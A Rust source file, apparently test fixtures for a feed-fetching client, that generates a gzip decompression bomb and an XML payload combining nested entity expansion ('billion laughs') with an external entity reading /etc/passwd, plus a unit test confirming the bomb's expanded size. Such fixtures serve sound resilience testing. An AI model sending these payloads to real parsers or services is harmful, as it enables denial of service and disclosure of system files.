//! Few bytes that become very many.

use std::io::Write as _;

use flate2::{Compress, Compression, Crc, FlushCompress};

use crate::response::Body;

const MIB: usize = 1 << 20;

/// Gzip of so many MiB of blanks, of which a thousandth is sent. One MiB is compressed once, so that
/// its bytes depend on nothing before it, and repeated.
pub(super) fn gzip(mib: u64) -> Body {
    let blanks = vec![b' '; MIB];
    let mut block = Vec::with_capacity(16 * 1024);
    let mut deflate = Compress::new(Compression::best(), false);
    deflate
        .compress_vec(&blanks, &mut block, FlushCompress::Full)
        .expect("blanks are compressed into a buffer that is large enough");
    let mut crc = Crc::new();
    crc.update(&blanks);
    let one = crc.sum();
    let mut all = Crc::new();
    (0..mib).for_each(|_| all.combine(&crc));
    debug_assert!(mib != 1 || all.sum() == one, "a sum of one part is that of the part");

    let head = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    // An empty last block, the sum, and the length modulo 2³².
    let mut tail = vec![1, 0, 0, 0xff, 0xff];
    tail.extend(all.sum().to_le_bytes());
    tail.extend(all.amount().to_le_bytes());
    let repeated = usize::try_from(mib).unwrap_or(usize::MAX);
    let pieces = std::iter::once(head).chain(std::iter::repeat_n(block, repeated));
    Body::Pieces(Box::new(pieces.chain(std::iter::once(tail))))
}

/// Ten entities, each ten of the one before, and one that names a file.
pub(super) fn xml() -> Vec<u8> {
    let mut text = b"<?xml version=\"1.0\" encoding=\"euc-kr\"?>\n<!DOCTYPE zentrade [\n".to_vec();
    let mut write = |line: String| text.write_all(line.as_bytes()).expect("memory takes it");
    write("<!ENTITY file SYSTEM \"file:///etc/passwd\">\n<!ENTITY a0 \"haha\">\n".to_owned());
    for level in 1..10 {
        let ten = format!("&a{};", level - 1).repeat(10);
        write(format!("<!ENTITY a{level} \"{ten}\">\n"));
    }
    write("]>\n<zentrade version=\"ZENTRADE XML 1.0\" datetime=\"\">".to_owned());
    write("<product code=\"1\"><prdtname>&a9;&file;</prdtname></product></zentrade>\n".to_owned());
    text
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use flate2::read::GzDecoder;

    use super::gzip;

    #[test]
    fn a_bomb_is_good_gzip_of_the_size_that_was_ordered() {
        for mib in [0, 1, 3] {
            let bytes = gzip(mib).into_bytes();
            assert!(bytes.len() < 30 + usize::try_from(mib).unwrap() * 8_192, "{}", bytes.len());
            let mut blanks = Vec::new();
            GzDecoder::new(bytes.as_slice()).read_to_end(&mut blanks).unwrap();
            assert_eq!(blanks.len() as u64, mib << 20);
            assert!(blanks.iter().all(|byte| *byte == b' '));
        }
    }
}
